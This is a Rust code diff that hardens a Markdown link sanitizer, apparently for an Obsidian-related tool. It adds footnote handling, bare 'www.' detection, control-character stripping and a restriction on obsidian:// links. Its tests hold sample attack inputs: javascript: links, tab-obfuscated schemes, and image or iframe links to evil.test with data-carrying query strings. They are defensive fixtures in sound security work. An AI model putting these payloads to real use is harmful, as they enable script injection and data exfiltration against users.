@@ -9,6 +9,8 @@ use policy::pattern::{BadPattern, Patterns};
 use pulldown_cmark::{Event, Options, Parser, Tag, TagEnd};
 use url::Url;
 
+/// Longer texts are made plain at once, in bytes.
+const MOST: usize = 1024 * 1024;
 /// What makes links, code and HTML, and what looks like it and does not.
 const PLAIN: [(char, char); 5] = [('<', '‹'), ('[', '('), (']', ')'), ('`', '\''), ('~', '-')];
 
@@ -45,28 +47,38 @@ impl Links {
         let mut harmless = text.to_owned();
         // What is taken out may let something else appear.
         for _ in 0..ROUNDS {
-            let harmful = self.harmful(&harmless, eyes);
-            if harmful.is_empty() {
+            if text.len() > MOST {
+                break;
+            }
+            // Some readers know footnotes, and others take them for links.
+            let before = harmless.len();
+            let without = self.harmful(&harmless, eyes, Options::empty());
+            let plain = without.is_empty();
+            harmless = replaced(harmless, without);
+            let with = self.harmful(&harmless, eyes, Options::ENABLE_FOOTNOTES);
+            if plain && with.is_empty() {
                 return harmless;
             }
-            // From the last to the first, so that places stay what they are.
-            for (range, instead) in harmful.into_iter().rev() {
-                harmless.replace_range(range, &instead);
+            harmless = replaced(harmless, with);
+            if harmless.len() > before.saturating_mul(2).max(MOST) {
+                break;
             }
         }
         // Whoever writes like this wants to be misread: nothing of it is a link any more, nor is there code that could hide one.
         let plain: String = text.chars().map(|c| PLAIN.iter().find(|(from, _)| *from == c).map_or(c, |(_, to)| *to)).collect();
-        plain.replace("://", ": //").replace("//", "/ /")
+        plain.replace("://", ": //").replace("//", "/ /").replace("www.", "www .")
     }
 
     /// What must not stand as it is, in order and apart, and what stands there instead.
     #[expect(clippy::wildcard_enum_match_arm, reason = "most of Markdown does nothing by being looked at")]
-    fn harmful(&self, text: &str, eyes: Eyes) -> Vec<(Range<usize>, String)> {
+    fn harmful(&self, text: &str, eyes: Eyes, more: Options) -> Vec<(Range<usize>, String)> {
         let mut found: Vec<(Range<usize>, String)> = Vec::new();
         // The outermost image or link that is taken out, and the words in it.
         let mut open: Option<(Range<usize>, String, usize, String)> = None;
         let mut in_code = false;
-        for (event, range) in Parser::new_ext(text, Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH).into_offset_iter() {
+        for (event, range) in
+            Parser::new_ext(text, Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | more).into_offset_iter()
+        {
             if let Some((_, _, depth, words)) = &mut open {
                 match &event {
                     Event::Start(Tag::Image { .. } | Tag::Link { .. }) => *depth += 1,
@@ -106,7 +118,7 @@ impl Links {
         let stretch = text.get(range.clone()).unwrap_or_default();
         let mut found = Vec::new();
         let mut from = 0;
-        while let Some(at) = stretch.get(from..).and_then(|rest| rest.find("://")).map(|at| from + at) {
+        while let Some(at) = stretch.get(from..).and_then(address).map(|at| from + at) {
             let before = stretch.get(..at).unwrap_or_default();
             let start = before
                 .rfind(|c: char| !c.is_ascii_alphanumeric() && !"+-.".contains(c))
@@ -114,10 +126,17 @@ impl Links {
             let rest = stretch.get(start..).unwrap_or_default();
             let end = start + rest.find(|c: char| c.is_whitespace() || "<>\"`|".contains(c)).unwrap_or(rest.len());
             let address = stretch.get(start..end).unwrap_or_default();
-            if start >= from && start < at && !self.leads_well(address) {
+            let leads_well = match address.strip_prefix("www.") {
+                Some(_) => self.leads_well(&format!("http://{address}")),
+                None => self.leads_well(address),
+            };
+            if start >= from && !leads_well {
                 found.push((range.start + start..range.start + end, format!("`{address}`")));
             }
-            from = end.max(at + 3);
+            from = end.max(at + 4).min(stretch.len());
+            while !stretch.is_char_boundary(from) {
+                from += 1;
+            }
         }
         found
     }
@@ -128,17 +147,41 @@ impl Links {
             return true;
         }
         match Url::parse(to) {
-            Ok(url) if url.scheme() == "obsidian" => true,
+            // To open a note and nothing else: others change notes.
+            Ok(url) if url.scheme() == "obsidian" => url.host_str() == Some("open"),
             Ok(url) => matches!(url.scheme(), "http" | "https") && url.host_str().is_some_and(|host| self.hosts.covers(host)),
             Err(_) => false,
         }
     }
 }
 
-/// Whether an address leads out of the document it stands in.
+/// A text with some of its stretches replaced; they are in order, and apart.
+fn replaced(text: String, stretches: Vec<(Range<usize>, String)>) -> String {
+    if stretches.is_empty() {
+        return text;
+    }
+    let (mut whole, mut from) = (String::with_capacity(text.len()), 0);
+    for (range, instead) in stretches {
+        whole.push_str(text.get(from..range.start).unwrap_or_default());
+        whole.push_str(&instead);
+        from = range.end;
+    }
+    whole.push_str(text.get(from..).unwrap_or_default());
+    whole
+}
+
+/// Whether an address leads out of the document it stands in. Whoever follows one drops what cannot be seen in it.
 fn is_remote(to: &str) -> bool {
-    let to = to.trim_start_matches(|c: char| c.is_whitespace() || c.is_control());
+    let seen: String = to.chars().filter(|c| !c.is_control()).collect();
+    let to = seen.trim_start();
     to.starts_with("//") || to.starts_with("\\\\") || to.starts_with("/\\") || to.starts_with("\\/") || has_scheme(to)
+}
+
+/// Where the next address may stand: what follows its scheme, or its `www.`.
+fn address(text: &str) -> Option<usize> {
+    let bare =
+        text.match_indices("www.").find(|(at, _)| !text.get(..*at).is_some_and(|before| before.ends_with(char::is_alphanumeric)));
+    [text.find("://"), bare.map(|(at, _)| at)].into_iter().flatten().min()
 }
 
 fn has_scheme(to: &str) -> bool {
@@ -178,6 +221,10 @@ mod tests {
             ("[run](javascript:alert(1))", "run (`javascript:alert(1)`)"),
             ("<https://evil.test/a>", "`https://evil.test/a`"),
             ("look: https://evil.test/?d=1, or not", "look: `https://evil.test/?d=1,` or not"),
+            ("see www.evil.test/?d=1 or (www.example.org)", "see `www.evil.test/?d=1` or (`www.example.org)`"),
+            ("[new](obsidian://new?file=a&overwrite=true)", "new (`obsidian://new?file=a&overwrite=true`)"),
+            ("![x](<ht\ttps://evil.test/x>)", "x (`ht\ttps://evil.test/x`)"),
+            ("[x](java&#9;script:alert(1))", "x (`java\tscript:alert(1)`)"),
             ("a <img src=https://evil.test/i> b", "a &lt;img src=`https://evil.test/i`> b"),
             ("<iframe src=\"//evil.test\"></iframe>\n", "&lt;iframe src=\"//evil.test\">&lt;/iframe>\n"),
         ] {
@@ -207,6 +254,12 @@ mod tests {
     }
 
     proptest! {
+        #[test]
+        fn a_footnote_carries_no_image(word in "[a-z]{1,3}") {
+            let written = format!("see[^{word}]\n\n[^{word}]: ![x](https://evil.test/?d={word})\n");
+            prop_assert!(!links().harmless(&written, Eyes::Owner).contains("!["));
+        }
+
         /// Whatever is written, nothing that is left would be fetched or followed, and what is harmless already does not change.
         #[test]
         fn nothing_harmful_is_left(written in "([ a!\\[\\]()<>`\n]|https://evil\\.test/x|//evil\\.test|<img src=x>|\\[1\\]: https://evil\\.test){0,12}") {
